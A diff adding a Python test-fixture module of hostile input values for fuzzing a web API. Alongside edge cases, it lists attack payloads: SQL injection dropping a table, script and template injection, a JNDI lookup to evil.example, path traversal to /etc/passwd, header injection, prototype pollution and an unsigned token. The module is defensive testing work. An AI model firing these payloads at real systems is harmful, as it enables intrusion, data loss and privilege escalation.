@@ -1,0 +1,77 @@
+"""Hostile values, by where they are put."""
+
+import json
+
+# As they are written in JSON: each of another type than most members are.
+OTHER_TYPES = {
+    written: written
+    for written in (
+        "true", "false", "null", "7", "-1.5", "9" * 32, "[]", '["x"]', "[null]", "{}", '{"$ne": null}',
+        '{"__proto__": {"is_staff": true}}',
+    )
+}  # fmt: skip
+TEXTS = {
+    "empty": "",
+    "a blank": " ",
+    "long": "x" * 10_000,
+    "NUL": "a\0b",
+    "control characters": "a\x01\x07\x08\x1b[31mb",
+    "a line": "a\r\nSet-Cookie: a=b",
+    "an address line": "ann@example.com\r\nBcc: eve@example.com",
+    "a separator of lines": "a\u2028b\u2029c",
+    "turned around": "ann\u202egpj.exe",
+    "without width": "an\u200bn",
+    "a byte order mark": "\ufeffann",
+    "combining alone": "\u0301" * 40,
+    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
+    "beyond all planes": "\U0010ffff\ufffe",
+    "one that grows": "\ufdfa" * 200,
+    "SQL": "' or 1=1; drop table accounts_user; --",
+    "a pattern": "%_\\%",
+    "HTML": "<script>alert(1)</script>",
+    "a template": "{{7*7}}{% debug %}${7*7}#{7}",
+    "a look-up": "${jndi:ldap://evil.example/a}",
+    "a path": "../../../../etc/passwd",
+    "a number": "7",
+    "true": "true",
+    "a year too early": "0001-01-01T00:00:00+23:59",
+    "a year too late": "9999-12-31T23:59:59.999999-23:59",
+    "no day": "2026-02-30T00:00:00Z",
+    "a leap second": "2016-12-31T23:59:60Z",
+    "a UUID": "00000000-0000-0000-0000-000000000000",
+    "a token of nothing": "eyJhbGciOiJub25lIn0.e30.",
+}
+# JSON that no reader takes for the same, in place of a value.
+BROKEN = {
+    "half a pair": '"\\ud800"', "the other half": '"a\\udc00b"', "a raw NUL": '"a\0b"', "a huge number": "9" * 60,
+    "overlong UTF-8": '"\udcc0\udcaf"',
+}  # fmt: skip
+WRITTEN_VALUES = OTHER_TYPES | {name: json.dumps(text, ensure_ascii=name != "emoji") for name, text in TEXTS.items()}
+
+STRANGE_NAMES = [
+    "hostile", "", "_private", "__proto__", "constructor", "__class__", "id", "is_staff", "is_superuser", "version",
+    "a" * 10_000, "a/b~c", "a.b", "a[]", "\0", "\u202e", "\U0001f468",
+]  # fmt: skip
+
+# In a query string as they go over the wire, most of them encoded.
+QUERY_VALUES = [
+    "", "%20", "%00", "a%00b", "0", "-1", "1.5", "1e9", "%2B5", "007", "9" * 40, "x" * 2_000, "true", "TRUE", "1",
+    "null", "NaN", "%D9%A3", "%EF%BC%91", "%FF", "%C0%AF", "%ED%A0%80", "%F0%9F%91%A8", "\udcff", "%", "%zz", "%u0041",
+    "%0D%0ASet-Cookie:a=b", "%E2%80%AE", "%27%20or%201=1--", "%25", "_%25%5C", "{{7*7}}", "%3Cscript%3E",
+    "..%2f..%2fetc", "a;b=c", "0001-01-01T00:00:00%2B23:59", "9999-12-31T23:59:59.999999-23:59", "2026-02-30T00:00:00Z",
+    "2026-01-01", "00000000-0000-0000-0000-000000000000", "eyJhIjoxfQ:1abcde:x", "W10:1abcde:" + "x" * 43,
+]  # fmt: skip
+STRANGE_QUERIES = [
+    "?hostile=1", "?=", "?=x", "?hostile", "?__proto__[a]=b", "?a[]=1&a[]=2", "?format=api", "?_method=DELETE",
+    "?%00=1", "?%FF=1", "?hostile=1;page_size=2", "?" + "x" * 2_000, "?" + "&".join(f"a{n}=" for n in range(300)),
+]  # fmt: skip
+
+# In place of an id in a path.
+ID = "01a2101e-30ab-7110-a909-a024da587fc4"
+NO_IDS = [
+    "me", "0", "-1", "null", "x" * 2_000, "%00", "..", "%2e%2e", "..%2f..", "%2e%2e%2fme", "a%2fb", "%5c..%5c", "%FF",
+    "%C0%AE", "%ED%A0%80", "%F0%9F%91%A8", "%E2%80%AE", "%0d%0aSet-Cookie:a=b", "%27%20or%201=1--", "*", "{{7*7}}",
+    "%0a", "%EF%BC%90" * 8, "\udcff", ID.upper(), ID.replace("-", ""), f"{{{ID}}}", f"urn:uuid:{ID}", ID[:-1], f"{ID}0",
+    f"{ID};a=b", f"{ID}%20", f"{ID}%00", f"{ID}%0a", f"{ID}%2f", f"{ID}/",
+]  # fmt: skip
+IDS_OF_NOTHING = [ID, "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff"]
